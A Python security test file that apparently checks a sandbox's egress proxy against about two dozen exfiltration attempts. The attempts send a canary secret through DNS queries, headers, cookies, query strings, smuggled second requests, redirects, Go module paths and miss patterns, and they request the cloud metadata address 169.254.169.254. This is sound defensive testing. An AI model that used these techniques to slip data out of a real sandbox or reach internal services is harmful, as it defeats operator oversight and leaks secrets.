"""What a sandbox tries to reach, and what setup tries to send through its proxy."""

from __future__ import annotations

import asyncio
import contextlib
import functools
import ipaddress
import os
import socket
import ssl
from collections.abc import Awaitable, Callable, Iterator, Sequence
from contextlib import asynccontextmanager
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any

import httpcore

from app.egress.addresses import Addresses
from app.egress.go_proxy import ModuleServer, OnlyModules
from app.egress.proxy import Endpoint, UpstreamClient
from app.egress.rules import BlockedRequestError, HostRule
from app.egress.setup_proxy import EgressLimits, Mode
from app.outgoing import Outgoing
from app.sandbox.bubblewrap import Bubblewrap
from tests.security.attempts.inside import THROUGH, Parts, judged, without_flags
from tests.security.harness import Attempt, Outcome, got, outcome, stopped
from tests.support.registry import HOST, LOOPBACK, Gate, OpenGate, Registry, serving
from tests.support.surroundings import surroundings

_NO_NETWORK = "network namespace"
_OPEN = Parts(flags=without_flags("--unshare-net"))
CANARY = "canary-5c20d7"
_BODY = f"{CANARY}\r\n\r\n"
_LENGTH = f"Content-Length: {len(_BODY)}\r\n"


@contextlib.contextmanager
def _listening(kind: str) -> Iterator[tuple[socket.socket, str]]:
    """A socket of this machine, and the address by which a script reaches it."""
    if kind == "abstract":
        one = socket.socket(socket.AF_UNIX)
        name = f"honk-security-{os.getpid()}"
        one.bind(f"\0{name}")
        one.listen()
        address = f"socket.AF_UNIX, socket.SOCK_STREAM, '\\0{name}'"
    else:
        one = socket.socket(type=socket.SOCK_DGRAM if kind == "udp" else socket.SOCK_STREAM)
        one.bind(("127.0.0.1", 0))
        if kind == "tcp":
            one.listen()
        sort = "SOCK_DGRAM" if kind == "udp" else "SOCK_STREAM"
        address = f"socket.AF_INET, socket.{sort}, {one.getsockname()}"
    with one:
        one.settimeout(0.5)
        yield one, address


async def _reaches(kind: str, parts: Parts, folder: Path) -> Outcome:
    with _listening(kind) as (_, address):
        sandbox, spec = parts.made(folder)
        code = (
            f"import socket\nfamily, sort, to = {address}\none = socket.socket(family, sort)\n"
            f"try: one.connect(to); print({THROUGH!r}, 'connected')\n"
            "except OSError as problem: print(problem)"
        )
        return judged(await sandbox.run(spec, ["python3", "-c", code]))


async def _asks_a_name_server(parts: Parts, folder: Path) -> Outcome:
    """A question to a resolver of this machine; the name that is asked for is the secret."""
    with _listening("udp") as (server, address):
        sandbox, spec = parts.made(folder)
        code = (
            f"import socket\nfamily, sort, to = {address}\none = socket.socket(family, sort)\n"
            f"try: one.sendto(b'\\7{CANARY}\\4test\\0', to)\n"
            "except OSError as problem: print(problem)"
        )
        done = await sandbox.run(spec, ["python3", "-c", code])
        try:
            return got(f"{len(server.recv(512))} bytes arrived")
        except TimeoutError:
            return stopped(done.text or "nothing arrived")


def _inside(name: str, tried: Callable[..., Awaitable[Outcome]], *given: str) -> Attempt:
    run = functools.partial(tried, *given)
    return Attempt(
        name, _NO_NETWORK, functools.partial(run, Parts()), functools.partial(run, _OPEN)
    )


# Through the proxy.


@dataclass(frozen=True)
class Door:
    """How a door to the registry is made; each of the fields is a part."""

    mode: Mode = "fetch-only"
    rules: tuple[str, ...] = ()
    names: dict[str, Sequence[str]] | None = None
    networks: tuple[Any, ...] = tuple(LOOPBACK)
    bounds: EgressLimits | None = None
    modules: frozenset[str] | None = None

    @asynccontextmanager
    async def opened(self, folder: Path) -> Any:
        sandbox = Bubblewrap.create(folder)
        workspace = folder / "workspace"
        workspace.mkdir()
        sandbox.claim(workspace)
        async with serving() as registry:
            opener = OpenGate(sandbox, workspace, registry)
            rules = [HostRule(host, registry.port) for host in self.rules]
            async with opener.stack:
                yield await opener(
                    *rules,
                    mode=self.mode,
                    names=self.names,
                    networks=self.networks,
                    bounds=self.bounds,
                    only_modules=self._only_modules(registry),
                )
                for writer in opener.writers:
                    writer.transport.abort()

    def _only_modules(self, registry: Registry) -> OnlyModules | None:
        servers = [ModuleServer(registry.rule, "")]
        return None if self.modules is None else OnlyModules(servers, self.modules)


Request = Callable[[Gate], Awaitable[bytes]]


async def _through(
    ask: Request, arrived: Callable[[Registry], bool], door: Door, folder: Path
) -> Outcome:
    async with door.opened(folder) as gate:
        with contextlib.suppress(
            OSError, ssl.SSLError, AssertionError, asyncio.IncompleteReadError
        ):
            await ask(gate)
        why = gate.refused[0] if gate.refused else "it does not arrive"
        return outcome(arrived(gate.registry), "it arrived", why)


def _sends(line: str, headers: str = "", body: str = "", host: str = HOST) -> Request:
    async def ask(gate: Gate) -> bytes:
        named = f"{host}:{gate.registry.port}"
        words = f"{line} HTTP/1.1\r\nHost: {named}\r\n{headers}Connection: close\r\n\r\n{body}"
        # Who serves is of no matter here: a tunnel shows the registry's own certificate.
        reader, writer = await gate.tunnel(host, sni=host)
        writer.write(words.encode())
        return await asyncio.wait_for(reader.read(), 10)

    return ask


def _secret_arrived(registry: Registry) -> bool:
    return any(CANARY.encode() in each for each in registry.seen)


def _anything_arrived(registry: Registry) -> bool:
    return bool(registry.seen)


def _proxied(
    name: str,
    defense: str,
    ask: Request,
    null: Door,
    *,
    door: Door | None = None,
    arrived: Callable[[Registry], bool] = _secret_arrived,
) -> Attempt:
    run = functools.partial(_through, ask, arrived)
    product = door or Door()
    return Attempt(name, defense, functools.partial(run, product), functools.partial(run, null))


def _smuggled(name: str, ask: Request) -> Attempt:
    return _proxied(name, "fetch-only: the proxy rebuilds each request", ask, Door(mode="connect"))


async def _redirected(gate: Gate) -> bytes:
    to = f"https://elsewhere.test:{gate.registry.port}/{CANARY}?x"
    head = f"HTTP/1.1 302 Found\r\nLocation: {to}\r\nContent-Length: 0\r\n\r\n"
    gate.registry.answers["/a"] = head.encode()
    return await gate.get("/a")


async def _many(gate: Gate) -> bytes:
    """Says something by which of many paths it asks for."""
    missing = b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n"
    gate.registry.answers = {f"/{number}": missing for number in range(10)}
    reader, writer = await gate.tunnel(HOST)
    for number in range(10):
        host = f"{HOST}:{gate.registry.port}"
        writer.write(f"GET /{number} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
        if b" 404 " not in await reader.readuntil(b"\r\n\r\n"):
            break
    return b""


async def _metadata(networks: Sequence[str], name: str, folder: Path) -> Outcome:
    async def lookup(host: str) -> Sequence[str]:
        return [name]

    addresses = Addresses([ipaddress.ip_network(each) for each in networks], lookup)
    try:
        return got(f"would connect to {(await addresses.of(HOST))[0]}")
    except BlockedRequestError as refused:
        return stopped(str(refused))


async def _by_name(networks: Sequence[str], folder: Path) -> Outcome:
    """A host that this machine cannot look up, asked of the operator's proxy, which can."""

    async def unknown(host: str) -> Sequence[str]:
        raise OSError(host)

    allowed = [ipaddress.ip_network(each) for each in networks]
    async with surroundings(folder / "network") as company:
        way = Outgoing({"https": company.url}, bundle=company.bundle)
        rules, addresses = [HostRule("inside.corp.test")], Addresses(allowed, unknown)
        outside = UpstreamClient(rules, addresses, EgressLimits(), way.trust, way)
        why = "it was asked"
        try:
            place = Endpoint("inside.corp.test", 443, tls=True)
            async with outside.answer(place, "GET", "/wiki", []):
                pass
        except (BlockedRequestError, httpcore.ProxyError) as problem:
            why = str(problem)
        await outside.aclose()
        return outcome(bool(company.asked), f"asked for {company.asked}", why)


def _address(name: str, address: str, network: str) -> Attempt:
    return Attempt(
        name,
        "addresses are checked after the lookup, and the checked address is used",
        functools.partial(_metadata, (), address),
        functools.partial(_metadata, (network,), address),
    )


async def _looks_up(rules: Sequence[str], folder: Path) -> Outcome:
    """A name made of the secret, whose own name server would see it."""
    host = f"{CANARY}.elsewhere.test"
    asked: list[str] = []

    class Noted(dict[str, Sequence[str]]):
        def get(self, key: str, default: Any = None) -> Any:
            asked.append(key)
            return ["127.0.0.1"]

    async with Door(rules=tuple(rules), names=Noted({"x": []})).opened(folder) as gate:
        port = gate.registry.port
        line = f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n"
        reader, writer = await gate.connection()
        writer.write(line.encode())
        head = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 5)
        if b" 200 " in head:
            with contextlib.suppress(OSError, ssl.SSLError, asyncio.IncompleteReadError):
                trust = ssl.create_default_context(cafile=str(gate.door.mount.source / "ca.pem"))
                await writer.start_tls(trust, server_hostname=host)
                writer.write(f"GET / HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n".encode())
                await asyncio.wait_for(reader.read(1), 5)
        why = gate.refused[0] if gate.refused else "nothing was requested"
    return outcome(host in asked, "its name server is asked", why)


_SLOW = EgressLimits(total_bytes=1 << 20)


async def _endless(bounds: EgressLimits, folder: Path) -> Outcome:
    async with Door(bounds=bounds).opened(folder) as gate:
        reader, writer = await gate.tunnel(HOST)
        host = f"{HOST}:{gate.registry.port}"
        writer.write(f"GET /endless HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
        size = 0
        while size < 8 << 20 and (part := await asyncio.wait_for(reader.read(1 << 16), 10)):
            size += len(part)
        why = gate.refused[0] if gate.refused else "it ends"
        return outcome(size >= 8 << 20, f"{size:,} bytes", why)


ATTEMPTS = (
    _inside("reaches a server on this machine's loopback", _reaches, "tcp"),
    _inside("reaches an abstract socket of this machine", _reaches, "abstract"),
    _inside("sends a secret as a DNS query", _asks_a_name_server),
    _smuggled(
        "uploads through a package registry",
        _sends("POST /upload", _LENGTH, _BODY),
    ),
    _smuggled(
        "publishes a package to a registry", _sends(f"PUT /{CANARY}", "Content-Length: 0\r\n")
    ),
    _smuggled("sends a secret as a query string", _sends(f"GET /a?{CANARY}")),
    _smuggled("sends a secret as a header", _sends("GET /a", f"User-Agent: {CANARY}\r\n")),
    _smuggled("sends a secret as a cookie", _sends("GET /a", f"Cookie: a={CANARY}\r\n")),
    _smuggled("sends a secret as the body of a GET", _sends("GET /a", _LENGTH, _BODY)),
    _smuggled(
        "smuggles a second request after the first",
        _sends("GET /a", "Content-Length: 0\r\n", f"POST /{CANARY} HTTP/1.1\r\nHost: x\r\n\r\n"),
    ),
    _proxied(
        "requests a host that is not allowed",
        "list of allowed hosts",
        _sends("GET /a", host="elsewhere.test"),
        Door(rules=(HOST, "elsewhere.test")),
        arrived=_anything_arrived,
    ),
    _proxied(
        "is redirected to a host that is not allowed",
        "list of allowed hosts, also for redirects",
        _redirected,
        Door(rules=(HOST, "elsewhere.test")),
    ),
    Attempt(
        "looks up a name that contains a secret through the proxy",
        "only allowed names are resolved",
        functools.partial(_looks_up, (HOST,)),
        functools.partial(_looks_up, (HOST, "*.elsewhere.test")),
    ),
    _proxied(
        "reaches this machine through an allowed name that resolves to it",
        "addresses are checked after the lookup",
        _sends("GET /a"),
        Door(),
        door=Door(networks=()),
        arrived=_anything_arrived,
    ),
    _address("requests the cloud's metadata address", "169.254.169.254", "169.254.0.0/16"),
    _address("requests it disguised as IPv6", "::ffff:169.254.169.254", "169.254.0.0/16"),
    _address("requests an address in a private network", "10.1.2.3", "10.0.0.0/8"),
    Attempt(
        "makes the operator's proxy resolve an internal server",
        "names that this machine cannot resolve need the operator's permission",
        functools.partial(_by_name, ()),
        functools.partial(_by_name, ("0.0.0.0/0",)),
    ),
    _proxied(
        "encodes data in which missing paths it requests",
        "limit on misses",
        _many,
        Door(),
        door=Door(bounds=replace(EgressLimits(), misses=3)),
        arrived=lambda registry: len(registry.seen) >= 10,
    ),
    _proxied(
        "puts its own host into a Go module's path",
        "only modules in the base's go.mod and go.sum",
        _sends(f"GET /elsewhere.test/{CANARY}/@v/list"),
        Door(),
        door=Door(modules=frozenset({"example.com/a@v1.0.0"})),
    ),
    _proxied(
        "puts data into the version of a known Go module",
        "only versions in the base's go.mod and go.sum",
        _sends(f"GET /example.com/a/@v/{CANARY}.info"),
        Door(),
        door=Door(modules=frozenset({"example.com/a@v1.0.0"})),
    ),
    _proxied(
        "sends a secret as a very long path",
        "limit on path length",
        _sends(f"GET /{'a' * 2000}{CANARY}"),
        Door(mode="connect"),
    ),
    Attempt(
        "downloads endlessly",
        "limit on bytes",
        functools.partial(_endless, _SLOW),
        functools.partial(_endless, EgressLimits()),
    ),
)
